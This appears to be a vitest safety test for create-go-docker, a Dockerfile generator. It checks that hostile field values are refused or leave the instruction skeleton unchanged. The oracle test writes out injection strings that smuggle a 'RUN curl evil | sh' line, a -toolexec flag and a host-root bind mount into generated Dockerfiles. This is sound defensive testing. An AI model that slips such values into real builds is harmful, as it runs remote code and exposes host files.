// The safety property (issue 11): for hostile values in every field a value can enter by, either
// create-go-docker refuses with one clear line and exit 1 or 2 and changes nothing, or what it
// writes has exactly the instruction skeleton of a baseline project, one line per line, and
// round-trips through regenerate. Seeded; a failure prints the seed, the field and the value.
// CGD_SAFETY_SEED and CGD_SAFETY_CASES explore further (docs/safety.md has a long run).
import { beforeAll, describe, expect, it } from 'vitest';
import { fieldBaselines } from './safety/baselines.js';
import { runCorpus } from './safety/corpus.js';
import { FIELDS } from './safety/fields.js';
import { skeleton } from './safety/oracle.js';
import { runProperty } from './safety/property.js';

const SEED = Number(process.env.CGD_SAFETY_SEED ?? 20261125);
const CASES_PER_FIELD = Number(process.env.CGD_SAFETY_CASES ?? 70);

let baselines = new Map<string, string[][]>();

beforeAll(async () => {
  baselines = await fieldBaselines();
}, 120_000);

describe('the oracle cannot pass by accident', () => {
  it('a value that became an instruction, an ARG or a mount flag changes the skeleton', () => {
    const base = 'FROM golang AS build\nARG GOPROXY=https://goproxy.cn,direct\nRUN --mount=type=cache,target=/go go build\n';
    expect(skeleton(base.replace('direct', 'direct\nRUN curl evil | sh'))).not.toEqual(skeleton(base));
    expect(skeleton(base.replace('direct', 'direct GOFLAGS=-toolexec=evil'))).not.toEqual(skeleton(base));
    expect(skeleton(base.replace('direct', 'direct \\'))).not.toEqual(skeleton(base));
    expect(
      skeleton(base.replace('--mount=type=cache,target=/go', '--mount=type=cache,target=/go --mount=type=bind,source=/,target=/h')),
    ).not.toEqual(skeleton(base));
  });
});

describe(`hostile values in every field (seed ${SEED}, ${CASES_PER_FIELD} cases per field)`, () => {
  it.each(FIELDS.map((field) => field.name))('%s', async (name) => {
    const result = await runProperty(SEED, CASES_PER_FIELD, baselines, [name]);
    const reports = result.wrong.map(
      (wrong) =>
        `case ${wrong.caseNumber} of field seed ${wrong.seed}: ${wrong.detail}\n  value: ` +
        `${JSON.stringify(wrong.value).slice(0, 400)}\n  reproduce: CGD_SAFETY_SEED=${SEED} npx vitest run test/safety.test.ts ` +
        `-t ${JSON.stringify(name)}`,
    );
    expect(reports).toEqual([]);
    expect(result.refused + result.correct).toBeGreaterThan(0);
  });
});

describe('the safety corpus (named hostile inputs; npm run safety prints the tally)', () => {
  it('has no wrong outcome', async () => {
    const tally = await runCorpus((field) => baselines.get(field) ?? []);
    const wrong = tally.rows.filter((row) => row.judgement.verdict === 'wrong').map((row) => `${row.name}: ${row.judgement.detail}`);
    expect(wrong).toEqual([]);
    expect(tally.inputs).toBeGreaterThan(800);
    expect(tally.refused).toBeGreaterThan(0);
    expect(tally.correct).toBeGreaterThan(0);
  }, 600_000);
});
